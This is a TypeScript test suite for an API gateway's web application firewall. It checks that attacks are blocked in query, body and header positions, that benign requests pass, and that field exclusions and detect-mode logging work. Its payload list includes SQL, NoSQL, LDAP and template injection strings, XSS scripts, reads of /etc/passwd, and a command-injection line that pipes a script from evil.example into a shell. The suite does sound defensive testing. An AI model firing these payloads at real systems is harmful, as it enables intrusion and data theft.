/**
 * The waf policy through the whole gateway: attacks of every class in a query, a JSON body, a
 * form body and a header are refused with 403 waf.blocked before the upstream sees them; benign
 * requests pass; a route-level exclusion lets HTML through a rich-text field; detect mode lets an
 * attack through and writes an audit line.
 */
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { problemOf, send, type Reply } from './helpers/client.js';
import { startTestGateway, type TestGateway } from './helpers/gateway.js';

/** Canonical attacks per class, as a client would send them (decoded). */
const ATTACKS: ReadonlyArray<readonly [string, string]> = [
  ['sqli', "1' OR '1'='1' --"],
  ['sqli', '1 UNION SELECT username, password FROM users'],
  ['xss', '<script>alert(document.cookie)</script>'],
  ['xss', '<img src=x onerror=alert(1)>'],
  ['path-traversal', '../../../../etc/passwd'],
  ['path-traversal', '..\\..\\windows\\win.ini'],
  ['cmdi', '; cat /etc/passwd'],
  ['cmdi', '$(curl http://evil.example/x.sh | sh)'],
  ['ssti', '{{ config.__class__.__init__.__globals__ }}'],
  ['nosqli', '{"$where": "sleep(5000)"}'],
  ['crlf', 'x%0d%0aSet-Cookie: admin=1'],
  ['ldapi', '*)(uid=*))(|(uid=*'],
];

const WAF = { inspect: { headers: ['user-agent', 'referer', 'x-test-input'] } };

let gw: TestGateway;

before(async () => {
  gw = await startTestGateway({
    config: {
      routes: [
        { path: '/api/*', methods: ['GET', 'POST'], upstream: 'api', public: true, policies: { waf: WAF } },
        { path: '/rich/*', methods: ['POST'], upstream: 'api', public: true, policies: { waf: { exclusions: [{ location: 'body', field: '/description', classes: ['xss'] }] } } },
        { path: '/detect/*', methods: ['GET'], upstream: 'api', public: true, policies: { waf: { mode: 'detect' } } },
      ],
    },
  });
});

after(() => gw.close());

function post(path: string, type: string, body: string): Promise<Reply> {
  return send(`${gw.url}${path}`, { method: 'POST', ca: gw.ca, headers: { 'content-type': type }, body });
}

/** The placements of one payload. */
const PLACEMENTS: ReadonlyArray<readonly [string, (payload: string) => Promise<Reply>]> = [
  ['query', (p) => send(`${gw.url}/api/search?page=1&q=${encodeURIComponent(p)}`, { ca: gw.ca })],
  ['JSON body', (p) => post('/api/tasks', 'application/json', JSON.stringify({ title: 'a task', note: p }))],
  ['form body', (p) => post('/api/tasks', 'application/x-www-form-urlencoded', `title=a+task&note=${encodeURIComponent(p)}`)],
  // eslint-disable-next-line no-control-regex
  ['header', (p) => send(`${gw.url}/api/search`, { ca: gw.ca, headers: { 'x-test-input': p.replace(/[\x00-\x1f\x7f]/g, ' ') } })],
];

for (const [cls, payload] of ATTACKS) {
  for (const [where, request] of PLACEMENTS) {
    test(`${cls} ${JSON.stringify(payload)} in a ${where} is refused and never reaches the upstream`, async () => {
      const seen = gw.upstream.requests.length;
      const body = problemOf(await request(payload), 403, 'waf.blocked');
      assert.equal(JSON.stringify(body).includes(payload), false);
      assert.equal(gw.upstream.requests.length, seen);
    });
  }
}

test('a nosqli operator as a JSON key is refused', async () => {
  const seen = gw.upstream.requests.length;
  problemOf(await post('/api/login', 'application/json', JSON.stringify({ user: 'admin', password: { $ne: null } })), 403, 'waf.blocked');
  assert.equal(gw.upstream.requests.length, seen);
});

test('a benign JSON task passes', async () => {
  const body = JSON.stringify({ title: 'Write the quarterly report', description: "Collect finance's numbers (Q3) and summarise them: 2 pages!", dueDate: '2026-12-31' });
  const reply = await post('/api/tasks', 'application/json', body);
  assert.equal(reply.status, 200);
  assert.equal(gw.upstream.requests.at(-1)?.body.toString(), body);
});

test('a benign query with typical headers passes', async () => {
  const reply = await send(`${gw.url}/api/search?q=${encodeURIComponent("O'Brien & sons")}&page=2`, {
    ca: gw.ca,
    headers: { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36', referer: 'https://app.example.com/tasks?view=board', cookie: 'session=6f1c2b9e; theme=dark' },
  });
  assert.equal(reply.status, 200);
});

test('a benign form body passes', async () => {
  assert.equal((await post('/api/tasks', 'application/x-www-form-urlencoded', 'title=Quarterly+report&due=2026-12-31')).status, 200);
});

test('an exclusion lets HTML through the rich-text field', async () => {
  const body = JSON.stringify({ title: 'Notes', description: '<p>Hello <b>team</b> <script>alert(1)</script></p>' });
  const reply = await post('/rich/tasks', 'application/json', body);
  assert.equal(reply.status, 200);
  assert.equal(gw.upstream.requests.at(-1)?.body.toString(), body);
});

test('the same HTML in another field of that route is refused', async () => {
  const body = JSON.stringify({ title: '<script>alert(1)</script>', description: 'plain' });
  problemOf(await post('/rich/tasks', 'application/json', body), 403, 'waf.blocked');
});

test('the exclusion does not switch off other classes on the rich-text field', async () => {
  const body = JSON.stringify({ title: 'Notes', description: "1' OR '1'='1' --" });
  problemOf(await post('/rich/tasks', 'application/json', body), 403, 'waf.blocked');
});

test('detect mode lets an attack through and writes an audit line without the payload', async () => {
  const seen = gw.upstream.requests.length;
  const reply = await send(`${gw.url}/detect/search?q=${encodeURIComponent('<script>alert(7331)</script>')}`, { ca: gw.ca });
  assert.equal(reply.status, 200);
  assert.equal(gw.upstream.requests.length, seen + 1);
  const line = await gw.waitForLog((l) => l.event === 'audit' && l.type === 'waf' && l.route === '/detect/*');
  assert.equal(line.outcome, 'failure');
  assert.match(String(line.reason), /^query:q score \d+ \(detect mode/);
  assert.equal(JSON.stringify(line).includes('7331'), false);
});
